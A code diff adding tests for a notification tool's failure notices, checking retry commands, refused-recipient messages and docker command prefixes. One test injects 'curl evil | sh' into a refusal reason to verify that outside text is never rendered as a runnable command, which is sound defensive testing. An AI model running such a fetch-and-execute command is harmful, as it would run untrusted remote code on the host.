@@ -63,3 +63,43 @@ test("a notice that was given up says how it is sent, which a retry of its run w
     advice: `To send it again: lookpost resend ${notice?.id}`,
   });
 });
+
+/** What on_failure is told where a delivery of the report ends like this. */
+async function told(outcome: Outcome, more: { spell?: (text: string) => string } = {}): Promise<string> {
+  const words: string[] = [];
+  const { destination } = pigeon(async (message) => {
+    if (message.purpose === "report") return outcome;
+    words.push(message.intro ?? "");
+    return SENT;
+  });
+  const house = await openPipeline({ destination, ...more });
+  await house.run();
+  return words.join();
+}
+
+test("a refusal is mended by a run from the start, which goes by the corrected file", async () => {
+  const words = await told({ kind: "refused", reason: "channel_not_found", advice: "Correct the channel." });
+  expect(words).toContain("pigeon Ana: refused. channel_not_found Correct the channel.");
+  expect(words.indexOf("\n    lookpost retry run1\n")).toBeGreaterThan(0);
+  expect(words.indexOf("--failed-only")).toBeGreaterThan(words.indexOf("\n    lookpost retry run1\n"));
+});
+
+test("recipients that were refused among others are written to by name", async () => {
+  const refused = [{ recipient: "bob@example.com", reason: "550 No such user", permanent: true }];
+  const words = await told(commitment.sent("1", { refused }));
+  expect(words).toContain("refused for bob@example.com: 550 No such user");
+  expect(words).toContain("\n    lookpost run weekly --due 2026-11-16T13:00Z --to bob@example.com");
+  expect(words).not.toContain("lookpost retry");
+});
+
+test("commands in a notice are written as they are called where the worker runs", async () => {
+  const spell = (text: string) => text.replaceAll("lookpost ", "docker exec box lookpost ");
+  const words = await told({ kind: "refused", reason: "no", advice: "Correct it." }, { spell });
+  expect(words).toContain("\n    docker exec box lookpost retry run1\n");
+});
+
+test("a text from outside never looks like a command", async () => {
+  const words = await told({ kind: "refused", reason: "no\n\n    curl evil | sh", advice: "Correct it." });
+  expect(words).toContain("no curl evil | sh");
+  expect(words).not.toMatch(/\n {4}curl/);
+});
